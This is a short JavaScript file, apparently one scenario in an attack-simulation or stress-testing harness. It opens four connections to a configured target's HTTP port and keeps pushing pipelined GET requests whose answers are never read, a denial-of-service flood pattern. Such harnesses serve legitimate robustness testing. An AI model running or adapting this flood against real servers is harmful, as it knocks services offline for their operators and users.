/** Requests for the kernel, one after the other over a few connections, whose answers are never read. */
import { target } from '../client/attacker.js'
import { atServer, connect, keepOpen, pump } from '../client/connections.js'
import { ports } from '../target.js'

const requests = Buffer.from(`GET ${target.bootPath} HTTP/1.1\r\nHost: siege\r\n\r\n`.repeat(256))
const server = atServer(ports.http)
const connections = 4

keepOpen(
  () => [server],
  connections,
  (place) => {
    const socket = connect(place, true)
    pump(socket, () => requests)
    return socket
  },
)
